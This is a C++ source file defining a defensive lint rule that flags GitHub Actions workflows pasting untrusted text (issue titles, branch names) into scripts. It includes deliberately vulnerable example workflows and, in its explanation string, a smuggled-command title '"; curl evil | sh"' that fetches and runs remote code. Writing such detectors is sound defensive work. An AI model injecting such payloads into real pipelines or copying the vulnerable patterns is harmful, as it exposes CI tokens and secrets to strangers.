#include "check/rule.h"
#include "project/ci_expression.h"
#include "project/ci_tools.h"
#include "project/written_text.h"

namespace plimsoll::check::rules {
namespace {

constexpr Meta kMeta{
    .slug = "ci-template-injection",
    .title = "Strangers' text becomes part of a script",
    .severity = Severity::kHigh,
    .control = Control::kVerifiedSources,
    .enabled = true,
    .aliases =
        "zizmor:template-injection semgrep:run-shell-injection "
        "semgrep:github-script-injection",
    .why =
        "The expression is pasted into the script before a shell sees it, so a title such as "
        "\"; curl evil | sh\" runs with the job's token and secrets.",
    .fix_note =
        "Give the value to the step as an environment variable and use \"$TITLE\" in the "
        "script: a shell does not run what a variable holds.",
    .sources =
        "https://docs.github.com/en/actions/concepts/security/script-injections "
        "https://docs.zizmor.sh/audits/#template-injection",
};

/// The input of actions that run it as a program.
const Node* script_input(const ci::Step& step) {
  if (step.with == nullptr || ci::action_name(step) != "actions/github-script") return nullptr;
  return step.with->find("script");
}

void check_script(const ci::Workflow& workflow, const Node& script, Sink& sink) {
  if (!script.is_scalar()) return;
  const auto contexts = ci::untrusted_contexts(script.text, workflow);
  if (contexts.empty()) return;
  const LogicalText written = ci::written_text(script, *workflow.file);
  for (const ci::UntrustedContext& context : contexts) {
    const Span place = written.text.empty() ? script.span : written.source(context.span);
    Finding& finding = sink.report(
        place, "'" + std::string(context.path) + "' is pasted into the script, whoever wrote it");
    // Without secrets a stranger gains little: a pull request can change the script itself.
    if (!context.with_secrets) finding.severity = Severity::kMedium;
  }
}

void check(const ci::Workflow& workflow, Sink& sink) {
  for (const ci::Job& job : workflow.jobs) {
    for (const ci::Step& step : job.steps) {
      if (step.run_node != nullptr) check_script(workflow, *step.run_node, sink);
      if (const Node* const script = script_input(step)) check_script(workflow, *script, sink);
    }
  }
}

constexpr Example kExamples[] = {
    {.name = "an issue's title",
     .file = ".github/workflows/triage.yml",
     .before = "on: issues\n"
               "jobs:\n"
               "  triage:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: |\n"
               "          echo \"${{ «github.event.issue.title» }}\"\n"},
    {.name = "a branch name in a JavaScript",
     .file = ".github/workflows/label.yml",
     .before = "on: pull_request_target\n"
               "jobs:\n"
               "  label:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - uses: actions/github-script@v7\n"
               "        with: {script: \"core.info('${{ «github.head_ref» }}')\"}\n"},
    {.name = "as a variable",
     .file = ".github/workflows/triage.yml",
     .before = "on: issues\n"
               "jobs:\n"
               "  triage:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: echo \"$TITLE\"\n"
               "        env: {TITLE: '${{ github.event.issue.title }}'}\n"},
    {.name = "only compared",
     .file = ".github/workflows/triage.yml",
     .before = "on: issue_comment\n"
               "jobs:\n"
               "  triage:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: echo ${{ contains(github.event.comment.body, '/go') }}\n"},
    {.name = "an event that has no such text",
     .file = ".github/workflows/release.yml",
     .before = "on: push\n"
               "jobs:\n"
               "  a:\n"
               "    runs-on: ubuntu-latest\n"
               "    steps:\n"
               "      - run: echo ${{ github.head_ref }}\n"},
};

}  // namespace

const Rule& ci_template_injection() {
  static constexpr Rule rule{kMeta, check, kExamples};
  return rule;
}

}  // namespace plimsoll::check::rules
